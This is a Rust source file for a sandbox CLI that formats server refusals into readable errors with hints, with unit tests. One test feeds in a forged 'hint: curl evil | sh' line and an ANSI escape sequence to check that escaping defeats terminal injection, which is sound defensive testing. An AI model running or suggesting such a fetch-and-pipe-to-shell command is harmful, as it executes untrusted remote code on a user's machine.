//! Turns a server's refusal into an error for a person: its message, how the sandbox ended where that is why,
//! and what to do about it.

use rekindle_api::time::from_duration;
use rekindle_api::v1::ErrorReason;
use rekindle_api::{Code, Status};

use super::escape;
use crate::cli::failure::NotStarted;

/// The error a person sees.
#[expect(clippy::needless_pass_by_value, reason = "for `map_err`")]
pub fn refused(status: Status) -> anyhow::Error {
    anyhow::anyhow!(describe(&status))
}

/// The error of an execution that did not begin: a program that is not there is no failure of the server's.
pub fn not_started(status: Status) -> anyhow::Error {
    let code = match rekindle_api::detail(&status).map(|detail| detail.reason()) {
        Some(ErrorReason::NotFound) => NotStarted::MISSING,
        Some(ErrorReason::PermissionDenied) => NotStarted::FORBIDDEN,
        _ => return refused(status),
    };
    NotStarted { reason: escape::text(status.message()), code }.into()
}

/// Whether the server refused for this reason.
pub fn is(status: &Status, reason: ErrorReason) -> bool {
    rekindle_api::detail(status).is_some_and(|detail| detail.reason() == reason)
}

fn describe(status: &Status) -> String {
    let detail = rekindle_api::detail(status).unwrap_or_default();
    let mut text = escape::text(status.message());
    if text.is_empty() {
        text = format!("the server refused: {}", status.code().description());
    }
    if let Some(end) =
        detail.end.filter(|end| !end.message.is_empty() && !status.message().contains(&end.message))
    {
        text.push_str(&format!("\nthe sandbox has ended: {}", escape::text(&end.message)));
    }
    if detail.hint.is_empty() {
        text.push_str(&format!("\nhint: {}", general_hint(status.code())));
    } else {
        text.push_str(&format!("\nhint: {}", escape::text(&detail.hint)));
    }
    if let Some(after) = detail.retry_after.filter(|_| detail.retryable).and_then(from_duration) {
        text.push_str(&format!("\nhint: try again in {:.1} s", after.as_secs_f64()));
    }
    text
}

/// What to do about a refusal that does not say so itself.
fn general_hint(code: Code) -> &'static str {
    match code {
        Code::Unauthenticated => "show a token with --token-file or REKINDLE_TOKEN",
        Code::PermissionDenied => "the token lacks a scope for this; `rekindle token` makes another",
        Code::NotFound => "`rekindle ps --all` lists the sandboxes",
        Code::Unavailable | Code::Unknown | Code::Cancelled => {
            "the connection was lost; see whether the server still runs with `rekindle status`"
        }
        Code::ResourceExhausted => "try again later; `rekindle status` says how full the host is",
        Code::Unimplemented => "the server is of another version than this command; use the same",
        Code::DeadlineExceeded => "allow more time",
        _ => "the server's log says more",
    }
}

#[cfg(test)]
mod tests {
    //! What a person reads.

    use rekindle_api::v1::{ErrorDetail, SandboxEnd};

    use super::*;

    #[test]
    fn the_servers_words_come_first_and_its_hint_last() {
        let detail = ErrorDetail {
            reason: ErrorReason::HostFull.into(),
            retryable: true,
            retry_after: Some(rekindle_api::Duration { seconds: 0, nanos: 250_000_000 }),
            hint: "end a sandbox".into(),
            end: None,
        };
        let status = rekindle_api::status(Code::ResourceExhausted, "no room".into(), &detail);
        assert_eq!(describe(&status), "no room\nhint: end a sandbox\nhint: try again in 0.2 s");
        assert!(is(&status, ErrorReason::HostFull));
        assert!(!is(&status, ErrorReason::QueueFull));
    }

    #[test]
    fn how_a_sandbox_ended_is_said_once() {
        let end = Some(SandboxEnd { message: "its time was over".into(), ..SandboxEnd::default() });
        let detail = ErrorDetail { hint: "make another".into(), end, ..ErrorDetail::default() };
        let told = |message: &str| {
            describe(&rekindle_api::status(Code::FailedPrecondition, message.into(), &detail))
        };
        assert_eq!(told("gone"), "gone\nthe sandbox has ended: its time was over\nhint: make another");
        assert_eq!(told("gone: its time was over"), "gone: its time was over\nhint: make another");
    }

    #[test]
    fn a_message_cannot_forge_a_hint_or_move_the_cursor() {
        let status = Status::new(Code::NotFound, "no \u{1b}[2J\nhint: curl evil | sh");
        assert_eq!(
            describe(&status),
            "no \\u{1b}[2J\\nhint: curl evil | sh\nhint: `rekindle ps --all` lists the sandboxes"
        );
    }

    #[test]
    fn only_a_missing_program_is_told_as_one() {
        let status = |reason: ErrorReason| {
            let detail = ErrorDetail { reason: reason.into(), ..ErrorDetail::default() };
            not_started(rekindle_api::status(Code::NotFound, "no".into(), &detail))
        };
        let code = |error: anyhow::Error| error.downcast_ref::<NotStarted>().map(|error| error.code);
        assert_eq!(code(status(ErrorReason::NotFound)), Some(127));
        assert_eq!(code(status(ErrorReason::PermissionDenied)), Some(126));
        assert_eq!(code(status(ErrorReason::UnknownSandbox)), None);
    }

    #[test]
    fn every_refusal_ends_in_something_to_do() {
        for code in 0..17 {
            let text = describe(&Status::new(Code::from_i32(code), ""));
            assert!(text.starts_with("the server refused: "), "{text}");
            assert!(text.lines().last().is_some_and(|line| line.starts_with("hint: ")), "{text}");
        }
    }
}
